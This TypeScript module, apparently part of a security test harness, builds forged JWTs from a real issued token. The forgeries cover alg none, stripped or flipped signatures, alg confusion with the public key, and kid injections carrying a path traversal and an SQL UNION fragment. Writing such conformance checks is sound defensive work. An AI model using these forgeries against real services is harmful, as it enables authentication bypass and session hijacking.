/**
 * Forged JWTs for the jwt.* and security.* checks, made from a token the server really issued: unsigned
 * variants (RFC 8725 §2.1), a flipped signature byte, a signature by another key of the same
 * algorithm, a changed payload under the old signature, headers that steer key lookup (kid, jku, x5u),
 * an HMAC keyed with the published public key (alg confusion), and changed claims signed with the
 * server's own key where the harness knows it. Each keeps the issued token's claims (unless changing
 * them is the point), so a server that skips verification would accept it as the live session it names.
 */
import { createHmac, createPublicKey, type JsonWebKey, type KeyObject } from 'node:crypto';
import {
  base64url,
  CompactSign,
  decodeJwt,
  decodeProtectedHeader,
  generateKeyPair,
  generateSecret,
  SignJWT,
  type CryptoKey,
  type JWK,
  type JWTPayload,
  type ProtectedHeaderParameters,
} from 'jose';

export interface Forgery {
  /** What was forged, as a phrase: "alg \"None\" with an empty signature". */
  readonly label: string;
  readonly token: string;
}

export interface DecodedJwt {
  readonly header: ProtectedHeaderParameters;
  readonly payload: JWTPayload;
  /** The three compact segments as issued. */
  readonly segments: readonly [string, string, string];
}

/** Decodes a compact JWS without verifying it; a sentence saying why when it is not a JWT. */
export function decodeToken(token: string): DecodedJwt | { problem: string } {
  const segs = token.split('.');
  if (segs.length !== 3) return { problem: `it has ${segs.length} dot-separated part${segs.length === 1 ? '' : 's'} instead of 3` };
  let header: ProtectedHeaderParameters;
  try {
    header = decodeProtectedHeader(token);
  } catch (e) {
    return { problem: `its header does not decode: ${(e as Error).message}` };
  }
  let payload: JWTPayload;
  try {
    payload = decodeJwt(token);
  } catch (e) {
    return { problem: `its payload does not decode: ${(e as Error).message}` };
  }
  return { header, payload, segments: segs as [string, string, string] };
}

function encodeJson(value: unknown): string {
  return base64url.encode(JSON.stringify(value));
}

/** Unsigned tokens naming the same session: alg none in three spellings, and stripped signatures. */
export function unsignedForgeries(jwt: DecodedJwt): Forgery[] {
  const [h, p] = jwt.segments;
  const out: Forgery[] = (['none', 'None', 'NONE'] as const).map((alg) => ({
    label: `alg "${alg}" with an empty signature`,
    token: `${encodeJson({ ...jwt.header, alg })}.${p}.`,
  }));
  out.push({ label: 'alg "none" with the signature part stripped (header.payload)', token: `${encodeJson({ ...jwt.header, alg: 'none' })}.${p}` });
  out.push({ label: `the issued header (alg ${String(jwt.header.alg)}) with an empty signature`, token: `${h}.${p}.` });
  out.push({ label: `the issued header (alg ${String(jwt.header.alg)}) with the signature part stripped`, token: `${h}.${p}` });
  return out;
}

/** The issued token with one byte of its signature inverted; undefined when it has no signature. */
export function flippedSignature(jwt: DecodedJwt): Forgery | undefined {
  const [h, p, s] = jwt.segments;
  const sig = base64url.decode(s);
  if (sig.length === 0) return undefined;
  const i = Math.floor(sig.length / 2);
  sig[i] = (sig[i] ?? 0) ^ 0xff;
  return { label: `a signature with byte ${i} inverted`, token: `${h}.${p}.${base64url.encode(sig)}` };
}

/** The same header and claims signed with a freshly generated key of the same algorithm; undefined when jose cannot make one. */
export async function resigned(jwt: DecodedJwt): Promise<Forgery | undefined> {
  const alg = jwt.header.alg;
  if (typeof alg !== 'string' || alg.toLowerCase() === 'none') return undefined;
  try {
    const key = /^HS\d+$/.test(alg) ? await generateSecret(alg) : (await generateKeyPair(alg)).privateKey;
    const token = await new SignJWT(jwt.payload).setProtectedHeader({ ...jwt.header, alg }).sign(key);
    return { label: `the same header and claims signed with another ${alg} key`, token };
  } catch {
    return undefined;
  }
}

/** The issued header and signature over a changed payload: a later exp, another sub (or an added claim). */
export function changedPayloads(jwt: DecodedJwt): Forgery[] {
  const [h, , s] = jwt.segments;
  const out: Forgery[] = [];
  const add = (label: string, payload: JWTPayload): void => {
    out.push({ label: `${label}, with the issued signature`, token: `${h}.${encodeJson(payload)}.${s}` });
  };
  if (typeof jwt.payload.exp === 'number') add('exp moved one day later', { ...jwt.payload, exp: jwt.payload.exp + 86_400 });
  if (typeof jwt.payload.sub === 'string') add('sub changed', { ...jwt.payload, sub: `${jwt.payload.sub}x` });
  if (out.length === 0) add('a claim added', { ...jwt.payload, authconform: 'changed' });
  return out;
}

/** The node:crypto hash behind an HMAC JWS algorithm (HS256 → sha256); undefined for any other algorithm. */
export function hmacHash(alg: unknown): 'sha256' | 'sha384' | 'sha512' | undefined {
  if (alg === 'HS256') return 'sha256';
  if (alg === 'HS384') return 'sha384';
  if (alg === 'HS512') return 'sha512';
  return undefined;
}

/**
 * The first candidate secret under which the token's HMAC signature verifies, with where it came
 * from; undefined when none does or the token is not HMAC-signed. Offline: nothing is sent anywhere.
 * A plain comparison is enough, since no server's timing is at stake here.
 */
export function findHmacSecret<O>(
  jwt: DecodedJwt,
  candidates: Iterable<{ readonly secret: string; readonly origin: O }>,
): { secret: string; origin: O } | undefined {
  const hash = hmacHash(jwt.header.alg);
  if (!hash) return undefined;
  const [h, p, s] = jwt.segments;
  const signature = Buffer.from(s, 'base64url');
  const input = `${h}.${p}`;
  for (const c of candidates) {
    if (createHmac(hash, c.secret).update(input).digest().equals(signature)) return { secret: c.secret, origin: c.origin };
  }
  return undefined;
}

/**
 * The issued claims (byte for byte) under a new header, HMAC-signed with `secret`. Signed with
 * node:crypto rather than jose because the secret may be empty, which WebCrypto refuses to import,
 * and an empty key is exactly what a server that reads its key from /dev/null would use.
 */
export function hmacForgery(label: string, jwt: DecodedJwt, header: ProtectedHeaderParameters, secret: string | Uint8Array): Forgery {
  const hash = hmacHash(header.alg);
  if (!hash) throw new TypeError(`hmacForgery needs an HMAC alg, not ${String(header.alg)}`);
  const input = `${encodeJson(header)}.${jwt.segments[1]}`;
  return { label, token: `${input}.${createHmac(hash, secret).update(input).digest('base64url')}` };
}

/**
 * Tokens whose `kid` names a key a careless lookup would find for anyone (RFC 8725 §3.10): a path
 * traversal to /dev/null (a server reading its key from the kid path gets the empty key) and an SQL
 * fragment whose UNION yields the key 'key'. Each is signed with that key over the issued claims, so
 * a server that honours the kid accepts it as the user's session. HMAC tokens keep their alg; other
 * tokens get HS256, the algorithm such a lookup would pair with a string key.
 */
export function kidInjections(jwt: DecodedJwt): Forgery[] {
  const alg = hmacHash(jwt.header.alg) ? (jwt.header.alg as string) : 'HS256';
  const traversal = '../../../../../../../dev/null';
  const sql = "x' UNION SELECT 'key'--";
  return [
    hmacForgery(`kid ${JSON.stringify(traversal)} signed with the empty key`, jwt, { ...jwt.header, alg, kid: traversal }, ''),
    hmacForgery(`kid ${JSON.stringify(sql)} signed with the key 'key'`, jwt, { ...jwt.header, alg, kid: sql }, 'key'),
  ];
}

/**
 * The issued claims (byte for byte) under a new header, signed with jose by `key` (an RS256 key the
 * harness made, whose public half it serves where the header points).
 */
export async function signedForgery(label: string, jwt: DecodedJwt, header: ProtectedHeaderParameters & { alg: string }, key: CryptoKey | KeyObject): Promise<Forgery> {
  const payload = base64url.decode(jwt.segments[1]);
  const token = await new CompactSign(payload).setProtectedHeader(header).sign(key);
  return { label, token };
}

/** `payload` under the issued header, signed with jose by `key`: the server's own key, where the harness knows it. */
export async function signedClaims(label: string, jwt: DecodedJwt, payload: JWTPayload, key: KeyObject | Uint8Array): Promise<Forgery> {
  const alg = String(jwt.header.alg);
  const token = await new CompactSign(new TextEncoder().encode(JSON.stringify(payload))).setProtectedHeader({ ...jwt.header, alg }).sign(key);
  return { label, token };
}

/**
 * The issued claims under alg HS256, each HMAC-signed with one form of the published public key as
 * the secret (RFC 8725 §2.1): a server whose library lets the token's alg decide how its key is used
 * verifies the HMAC with the bytes of the public key it holds, in whichever form it holds them: the
 * PEM text as written to disk (with and without its final newline), for RSA the PKCS #1 PEM, the DER
 * bytes, or the JWK as published. The header keeps its kid, so the server picks that key.
 */
export function algConfusionForgeries(jwt: DecodedJwt, jwk: JWK): Forgery[] {
  const key = createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' });
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  const forms: [string, string | Uint8Array][] = [
    ['the PEM text (SubjectPublicKeyInfo)', pem],
    ['the PEM text without its final newline', pem.trimEnd()],
    ...(key.asymmetricKeyType === 'rsa' ? [['the PKCS #1 PEM text', key.export({ type: 'pkcs1', format: 'pem' }).toString()] as [string, string]] : []),
    ['the DER bytes', key.export({ type: 'spki', format: 'der' })],
    ['the JWK as published (JSON)', JSON.stringify(jwk)],
  ];
  const header = { ...jwt.header, alg: 'HS256' };
  return forms.map(([form, secret]) => hmacForgery(`alg HS256, keyed with ${form} of the published public key`, jwt, header, secret));
}

/** The header without the claims that name or locate a key (kid, jku, x5u, x5c, jwk), for a forgery that supplies its own. */
export function withoutKeyHints(header: ProtectedHeaderParameters): ProtectedHeaderParameters {
  const { kid: _kid, jku: _jku, x5u: _x5u, x5c: _x5c, jwk: _jwk, ...rest } = header;
  return rest;
}
